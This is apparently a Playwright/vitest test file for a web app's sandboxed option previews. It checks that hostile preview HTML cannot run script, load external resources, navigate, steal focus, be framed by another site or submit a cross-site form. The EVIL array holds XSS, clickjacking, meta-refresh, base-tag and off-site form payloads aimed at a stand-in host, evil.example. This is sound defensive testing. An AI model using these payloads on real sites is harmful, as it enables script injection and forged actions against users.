import { describe, expect, it } from "vitest";
import { DEPLOY } from "../pages.js";
import { serveSite, takeFaults, useBrowser, WITHOUT_WORKER } from "./people.js";

useBrowser();

/** What an inbox may be asked to show: nothing has looked at it before, as a tool would have. */
const EVIL = [
  "<script>alert(1); top.location = 'http://evil.example/'</script>",
  '<img src="http://evil.example/a.png" onerror="alert(2)"><img src="/sign-out">',
  '<link rel="stylesheet" href="http://evil.example/b.css"><style>@import url(http://evil.example/c.css); body { background: url(http://evil.example/d.png) }</style>',
  '<meta http-equiv="refresh" content="0; url=http://evil.example/e">',
  '<form action="http://evil.example/f" method="post"><input autofocus name="x"><button>Send</button></form>',
  '<a href="http://evil.example/g" target="_top" style="position:fixed;inset:0">a link over all of it</a>',
  '<iframe src="http://evil.example/h"></iframe><object data="http://evil.example/i"></object><video src="http://evil.example/j" autoplay></video>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"><use href="http://evil.example/k.svg#x"/></svg>',
  "<base href='http://evil.example/'></body></html><script>alert(4)</script>",
];

describe("previews that want out", () => {
  it("V-03 G-06 neither run, load, navigate nor take focus, looked at and clicked on", async () => {
    const site = await serveSite();
    const options = EVIL.map((preview, index) => ({ label: `Way ${index}`, description: "", preview }));
    const id = await site.ask([{ ...DEPLOY, options }]);
    const { page, context, visit } = await site.open({
      viewport: { width: 1000, height: 3_600 },
      ...WITHOUT_WORKER,
    });
    const touched: string[] = [];
    context.on("page", () => touched.push("a window"));
    page.on("dialog", (dialog) => {
      touched.push("a dialog");
      void dialog.dismiss();
    });
    // What the policy stops does not come here.
    await context.route(
      ({ host, pathname }) => host === "evil.example" || pathname === "/sign-out",
      async (route) => {
        touched.push(route.request().url());
        await route.abort();
      },
    );
    await visit(`/q/${id}`);
    for (const [index] of EVIL.entries()) {
      // A click on a preview is meant for its option.
      const box = await page.locator(`.option:has(#q0-${index}) .frame`).boundingBox();
      await page.mouse.click((box?.x ?? 0) + 40, (box?.y ?? 0) + 40);
      expect(await page.isChecked(`#q0-${index}`)).toBe(true);
      expect(await page.evaluate("document.activeElement?.tagName")).not.toBe("IFRAME");
    }
    expect(page.frames().length).toBeGreaterThan(3);
    const own = page.frames().filter((frame) => frame.parentFrame() === page.mainFrame());
    for (const frame of own) expect(frame.url()).toMatch(/\/preview\/0-\d\?framed$/);
    expect(page.url()).toBe(`${site.url}/q/${id}`);
    expect(touched).toEqual([]);
    // Nor where somebody opens one by itself.
    for (const [index] of EVIL.entries()) {
      await visit(`/q/${id}/preview/0-${index}`);
      expect(page.url()).toBe(`${site.url}/q/${id}/preview/0-${index}`);
    }
    expect(touched).toEqual([]);
    const refused: string[] = [];
    for (const letter of "abcdij") {
      await expect
        .poll(() => refused.push(...takeFaults()) && refused.join("\n"))
        .toContain(`evil.example/${letter}`);
    }
  });

  it("V-03 is noticed where a frame is let out", async () => {
    const site = await serveSite();
    const { page } = await site.open(WITHOUT_WORKER);
    let asked = 0;
    page.on("dialog", (dialog) => {
      asked += 1;
      void dialog.dismiss();
    });
    await page.route("**/evil", (route) => route.fulfill({ contentType: "text/html", body: EVIL[0] ?? "" }));
    await page.goto(`${site.url}/evil`).catch(() => undefined);
    expect(asked).toBe(1);
  });

  it("G-06 no other site frames the pages", async () => {
    const site = await serveSite();
    const id = await site.ask();
    const { page } = await site.open(WITHOUT_WORKER);
    await page.route("http://evil.example/", (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="${site.url}/q/${id}"></iframe>` }),
    );
    await page.goto("http://evil.example/");
    const framed: string[] = [];
    await expect
      .poll(() => framed.push(...takeFaults()) && framed.join())
      .toContain("frame-ancestors 'none'");
    expect(await page.frames()[1]?.locator("h1").count()).toBe(0);
  });

  it("G-06 a form of another site sends nothing, whatever it knows", async () => {
    const site = await serveSite();
    const id = await site.ask();
    const { page } = await site.open(WITHOUT_WORKER);
    const body = `<form method="post" action="${site.url}/q/${id}"><input name="act" value="answer"><input name="q0" value="0"><button>x</button></form>`;
    await page.route("http://evil.example/", (route) => route.fulfill({ contentType: "text/html", body }));
    await page.goto("http://evil.example/");
    await page.click("button");
    await page.waitForSelector("h1:text('That was not taken')");
    expect((await site.inbox.get(id))?.settlement).toBeUndefined();
  });
});
